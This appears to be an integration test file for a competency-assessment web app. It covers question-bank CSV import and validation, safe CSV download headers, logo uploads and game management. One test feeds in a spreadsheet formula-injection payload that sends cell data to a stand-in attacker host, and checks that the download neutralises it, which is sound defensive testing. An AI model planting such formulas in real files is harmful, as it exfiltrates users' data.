import { readFileSync } from 'node:fs';
import path from 'node:path';
import { catalogMessages, DEFAULT_COMPETENCIES } from '@app/domain';
import Papa from 'papaparse';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { fixturesDir, noisePngOver1Mb, questionBanksDir } from '../../test/harness';
import { useSignedInApp } from '../../test/signed-in-app';

const session = useSignedInApp();
const { call, upload } = session;

const bank = (file: string) => readFileSync(path.join(questionBanksDir, file));
const csv = (data: Buffer | string, name = 'bank.csv') => ({
  name,
  data: Buffer.isBuffer(data) ? data : Buffer.from(data),
  contentType: 'text/csv',
});

async function competencyByName(name: string) {
  const items = (await call('GET', '/api/competencies')).json().items as {
    id: string;
    name: string;
    levelCounts: number[];
    fileLink: string | null;
    image: string | null;
  }[];
  const found = items.find((c) => c.name === name);
  if (!found) {
    throw new Error(`no competency ${name}`);
  }
  return found;
}

describe('seeded question banks', () => {
  it.each(DEFAULT_COMPETENCIES)(
    '$name has 7 levels × 3 types × (3 Easy + 3 Hard), and 4 Easy at level 7',
    async ({ name }) => {
      const competency = await competencyByName(name);
      expect(competency.levelCounts).toEqual([18, 18, 18, 18, 18, 18, 21]);
      const counts = (
        await call(
          'GET',
          `/api/competencies/${competency.id}/question-counts`,
          undefined,
          session.adminCookie,
        )
      ).json().items;
      expect(counts).toHaveLength(7 * 3 * 2);
      for (const c of counts) {
        expect(c.count).toBe(c.level === 7 && c.difficulty === 'Easy' ? 4 : 3);
      }
    },
  );

  it('downloads the stored file: the same cells, as an attachment', async () => {
    const competency = await competencyByName('Integrity');
    const response = await call('GET', competency.fileLink ?? '');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toMatch(/text\/csv/);
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="Integrity.csv"/,
    );
    expect(response.headers['content-security-policy']).toBe("default-src 'none'; sandbox");
    expect(response.headers['x-content-type-options']).toBe('nosniff');
    const cells = (text: string) =>
      Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true }).data;
    expect(cells(response.body)).toEqual(cells(bank('integrity.csv').toString()));
    expect(
      (await call('GET', competency.fileLink ?? '', undefined, session.adminCookie)).statusCode,
    ).toBe(403);
  });
});

describe('question file import', () => {
  it('reports the one bad row by number and imports the rest', async () => {
    const lines = bank('adaptability.csv').toString().split('\n');
    lines[5] = (lines[5] ?? '').replace(/^Question,Adaptability,1,/, 'Question,Adaptability,9,');
    const check = await upload(
      '/api/uploads/question-banks?competency=Adaptability',
      csv(lines.join('\n')),
    );
    expect(check.statusCode).toBe(201);
    expect(check.json().validRows).toBe(128);
    expect(check.json().rejected).toEqual([
      { row: 6, reason: 'Level must be a whole number from 1 to 7 (found "9")' },
    ]);

    const competency = await competencyByName('Adaptability');
    const saved = await call('PATCH', `/api/competencies/${competency.id}`, {
      description: 'Changed',
      questionFileId: check.json().fileId,
    });
    expect(saved.statusCode).toBe(200);
    expect(saved.json().import).toEqual({ imported: 128, rejected: check.json().rejected });
    expect(saved.json().competency.levelCounts).toEqual([17, 18, 18, 18, 18, 18, 21]);
  });

  it('imports a file without the Rationale column, with the content lint as warnings', async () => {
    const check = await upload(
      '/api/uploads/question-banks?competency=Adaptability',
      csv(readFileSync(path.join(fixturesDir, 'template-bank-rows.csv'))),
    );
    expect(check.statusCode).toBe(201);
    expect(check.json().validRows).toBe(6);
    expect(check.json().rejected).toEqual([]);
    expect(check.json().warnings).toContainEqual({
      row: 2,
      reason: 'Question names the competency "Adaptability"',
    });
    expect(check.json().warnings).toContainEqual({
      row: 6,
      reason: 'Answer One fills the 30-character limit and may be cut off',
    });
    // A shipped bank, written to the guide, draws no warning.
    const clean = await upload(
      '/api/uploads/question-banks?competency=Adaptability',
      csv(bank('adaptability.csv')),
    );
    expect(clean.json()).toMatchObject({ validRows: 129, rejected: [], warnings: [] });
  });

  it.each([
    [
      'not CSV',
      csv(readFileSync(path.join(fixturesDir, 'square-150.png'))),
      catalogMessages.notCsv,
    ],
    [
      'no header',
      csv('Question,Innovation,1,Easy,,,,What?,A,,,,happy,,,,1,500\n'),
      catalogMessages.noHeader,
    ],
    [
      'an unknown column',
      csv(`${bank('innovation.csv').toString().split('\n')[0]},Extra\n`),
      catalogMessages.unknownColumns(['Extra']),
    ],
    [
      'the columns of another file',
      csv('\uFEFFBusiness Email,Full Name\r\nx@y.test,X\r\n'),
      catalogMessages.unknownColumns(['Business Email', 'Full Name']),
    ],
    ['a missing column', csv('Type,Leadership Ability,Level\nQuestion,Innovation,1\n'), null],
    ['rows of another competency', csv(bank('integrity.csv')), catalogMessages.noValidRows],
  ])('refuses a file with %s and changes nothing', async (_label, file, message) => {
    const before = await competencyByName('Innovation');
    const response = await upload('/api/uploads/question-banks?competency=Innovation', file);
    expect(response.statusCode).toBe(400);
    if (message) {
      expect(response.json().error.message).toBe(message);
    } else {
      expect(response.json().error.message).toMatch(
        /^The question file lacks the columns: Difficulty, Name/,
      );
    }
    expect(await competencyByName('Innovation')).toEqual(before);
  });

  it('neutralises formula cells in the downloaded question file (DESIGN §6.10)', async () => {
    const [header, first, ...rest] = bank('innovation.csv')
      .toString()
      .replaceAll(',Innovation,', ',Formulae,')
      .split('\n');
    const cells = Papa.parse<string[]>(first ?? '').data[0] ?? [];
    cells[7] = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    cells[8] = '@SUM(1+1)';
    cells[9] = '-2+3';
    const file = [header, Papa.unparse([cells]), ...rest].join('\n');
    const check = await upload('/api/uploads/question-banks?competency=Formulae', csv(file));
    expect(check.statusCode, check.body).toBe(201);
    const created = await call('POST', '/api/competencies', {
      name: 'Formulae',
      description: 'Formula cells.',
      questionFileId: check.json().fileId,
    });
    expect(created.statusCode).toBe(201);
    const response = await call('GET', created.json().competency.fileLink);
    const row = Papa.parse<string[]>(response.body.replace(/^\uFEFF/, '')).data[1] ?? [];
    expect(row.slice(7, 10)).toEqual([
      `'=HYPERLINK("http://evil.example/?"&A1,"Click")`,
      "'@SUM(1+1)",
      "'-2+3",
    ]);
    expect(response.body).not.toMatch(/(^|,)"?[=+\-@]/m);
    // Re-uploading the downloaded file reads the cells as they were first written.
    const again = await upload(
      '/api/uploads/question-banks?competency=Formulae',
      csv(response.rawPayload),
    );
    expect(again.json()).toMatchObject({ validRows: 129, rejected: [] });
    expect(
      (await call('DELETE', `/api/competencies/${created.json().competency.id}`)).statusCode,
    ).toBe(204);
  });

  it.each([
    ['UTF-16 LE', 'utf16le'],
    ['UTF-16 BE', 'utf16be'],
  ] as const)(
    'reads a tab-separated %s file with its BOM (Excel "Unicode Text")',
    async (_l, enc) => {
      const text = bank('innovation.csv')
        .toString()
        .split('\n')
        .map((line) => (Papa.parse<string[]>(line).data[0] ?? []).join('\t'))
        .join('\r\n');
      const le = Buffer.from(text, 'utf16le');
      const data =
        enc === 'utf16le'
          ? Buffer.concat([Buffer.from([0xff, 0xfe]), le])
          : Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(le).swap16()]);
      const check = await upload('/api/uploads/question-banks?competency=Innovation', csv(data));
      expect(check.statusCode, check.body).toBe(201);
      expect(check.json()).toMatchObject({ validRows: 129, rejected: [] });
    },
  );

  it('saves nothing when the referenced question file does not exist', async () => {
    const before = await competencyByName('Collaboration');
    const response = await call('PATCH', `/api/competencies/${before.id}`, {
      description: 'Should not stick',
      questionFileId: '00000000-0000-4000-8000-000000000000',
    });
    expect(response.statusCode).toBe(400);
    const after = (await call('GET', '/api/competencies'))
      .json()
      .items.find((c: { id: string }) => c.id === before.id);
    expect(after.description).not.toBe('Should not stick');
    expect(after.levelCounts).toEqual(before.levelCounts);
  });

  it('creates a competency with its file, keeps the name read-only, and deletes it with its questions', async () => {
    const check = await upload(
      '/api/uploads/question-banks?competency=Resilience',
      csv(bank('innovation.csv').toString().replaceAll(',Innovation,', ',Resilience,')),
    );
    const created = await call('POST', '/api/competencies', {
      name: 'Resilience',
      description: 'Bounces back.',
      questionFileId: check.json().fileId,
    });
    expect(created.statusCode).toBe(201);
    expect(created.json().import.imported).toBe(129);
    const id = created.json().competency.id;

    const renamed = await call('PATCH', `/api/competencies/${id}`, {
      name: 'Other',
      description: 'Still bounces.',
    });
    expect(renamed.json().competency).toMatchObject({
      name: 'Resilience',
      description: 'Still bounces.',
    });
    const clash = await call('POST', '/api/competencies', { name: 'resilience', description: 'x' });
    expect(clash.statusCode).toBe(409);

    expect((await call('DELETE', `/api/competencies/${id}`)).statusCode).toBe(204);
    const counts = (await call('GET', `/api/competencies/${id}/question-counts`)).json().items;
    expect(counts).toEqual([]);
  });

  it('has no download for a competency without a file', async () => {
    const created = await call('POST', '/api/competencies', {
      name: 'Empathy',
      description: 'Feels with others.',
    });
    expect(created.json().competency).toMatchObject({
      fileLink: null,
      levelCounts: [0, 0, 0, 0, 0, 0, 0],
    });
    expect(
      (await call('GET', `/api/competencies/${created.json().competency.id}/question-file`))
        .statusCode,
    ).toBe(404);
  });

  it('answers 403 to an admin', async () => {
    expect(
      (
        await call(
          'POST',
          '/api/competencies',
          { name: 'X', description: 'Y' },
          session.adminCookie,
        )
      ).statusCode,
    ).toBe(403);
    expect(
      (
        await upload(
          '/api/uploads/question-banks?competency=X',
          csv(bank('innovation.csv')),
          session.adminCookie,
        )
      ).statusCode,
    ).toBe(403);
  });
});

describe('logos', () => {
  it('stores an uploaded png scaled to at most 300 px and serves it as an image', async () => {
    const response = await upload('/api/uploads/images', {
      name: 'bg.png',
      data: readFileSync(path.join(fixturesDir, 'background-1920x1080.png')),
      contentType: 'image/png',
    });
    expect(response.statusCode).toBe(201);
    const image = await session.app.inject({ method: 'GET', url: response.json().url });
    expect(image.headers['content-type']).toBe('image/png');
    const meta = await sharp(image.rawPayload).metadata();
    expect([meta.width, meta.height]).toEqual([300, 169]);

    const competency = await competencyByName('Integrity');
    const saved = await call('PATCH', `/api/competencies/${competency.id}`, {
      description: 'With a logo',
      imageFileId: response.json().fileId,
    });
    expect(saved.json().competency.image).toBe(response.json().url);
  });

  it('refuses a file that is not an image, whatever its name', async () => {
    const response = await upload('/api/uploads/images', {
      name: 'not-an-image.png',
      data: readFileSync(path.join(fixturesDir, 'not-an-image.png')),
      contentType: 'image/png',
    });
    expect(response.statusCode).toBe(400);
    expect(response.json().error.message).toBe(catalogMessages.imageType);
  });

  it("refuses an image over 1,000,000 bytes: 'Please Select image less than 1mb'", async () => {
    const data = await noisePngOver1Mb();
    expect(data.length).toBeGreaterThan(1_000_000);
    const response = await upload('/api/uploads/images', {
      name: 'noise.png',
      data,
      contentType: 'image/png',
    });
    expect(response.statusCode).toBe(413);
    expect(response.json().error.message).toBe(catalogMessages.imageTooLarge);
  });
});

describe('mini games and ace games', () => {
  it('keeps tab names unique', async () => {
    const games = (await call('GET', '/api/mini-games', undefined, session.adminCookie)).json()
      .items;
    expect(games.map((g: { tabName: string }) => g.tabName)).toEqual([
      'Mini 1',
      'Mini 2',
      'Mini 3',
      'Mini 4',
    ]);
    const game = {
      name: 'Memory',
      tabName: 'Mini 2',
      goalText: 'Remember.',
      time: 60,
      passingScore: 100,
    };
    const clash = await call('POST', '/api/mini-games', game);
    expect(clash.statusCode).toBe(409);
    expect(clash.json().error.message).toBe(catalogMessages.tabNameUsed('Mini 2'));

    const created = await call('POST', '/api/mini-games', { ...game, tabName: 'Mini 10' });
    expect(created.statusCode).toBe(201);
    const id = created.json().id;
    const edited = await call('PATCH', `/api/mini-games/${id}`, {
      ...game,
      tabName: 'Mini 5',
      time: 90,
    });
    expect(edited.json()).toMatchObject({ tabName: 'Mini 5', time: 90 });
    expect((await call('DELETE', `/api/mini-games/${id}`)).statusCode).toBe(204);
  });

  it('validates the mini-game form', async () => {
    const bad = await call('POST', '/api/mini-games', {
      name: '',
      tabName: 'Mini 11',
      goalText: '',
      time: -1,
      passingScore: 1,
    });
    expect(bad.statusCode).toBe(400);
    expect(Object.keys(bad.json().error.fields).sort()).toEqual([
      'goalText',
      'name',
      'tabName',
      'time',
    ]);
    expect(bad.json().error.fields.time).toBe(catalogMessages.minZero);
  });

  it('lists, adds and refuses duplicate cognitive and aptitude games', async () => {
    const cognitive = (await call('GET', '/api/ace-games?kind=cognitive')).json().items;
    expect(cognitive).toHaveLength(4);
    expect(cognitive[0].type).toBe('Cognitive');
    const created = await call('POST', '/api/ace-games?kind=aptitude', {
      name: 'Data Dash',
      secondName: 'Charts',
    });
    // 'Data Dash' matches no engine by name until the super admin names one.
    expect(created.json()).toMatchObject({
      kind: 'aptitude',
      type: 'Aptitude',
      name: 'Data Dash',
      engine: null,
    });
    const edited = await call('PATCH', `/api/ace-games/${created.json().id}`, {
      name: 'Data Dash',
      secondName: 'Charts',
      engine: 'numerical',
    });
    expect(edited.json().engine).toBe('numerical');
    expect(
      (
        await call('PATCH', `/api/ace-games/${created.json().id}`, {
          name: 'Data Dash',
          engine: 'chess',
        })
      ).statusCode,
    ).toBe(400);
    // The seeded games are matched by name: Memory Match plays as working memory.
    expect(
      cognitive.map((g: { name: string; engine: string }) => [g.name, g.engine]),
    ).toContainEqual(['Memory Match', 'workingMemory']);
    expect(
      (await call('POST', '/api/ace-games?kind=aptitude', { name: 'data dash' })).statusCode,
    ).toBe(409);
    expect(
      (await call('POST', '/api/ace-games?kind=cognitive', { name: 'Data Dash' })).statusCode,
    ).toBe(201);
    expect(
      (await call('DELETE', `/api/ace-games/${created.json().id}`, undefined, session.adminCookie))
        .statusCode,
    ).toBe(403);
  });
});
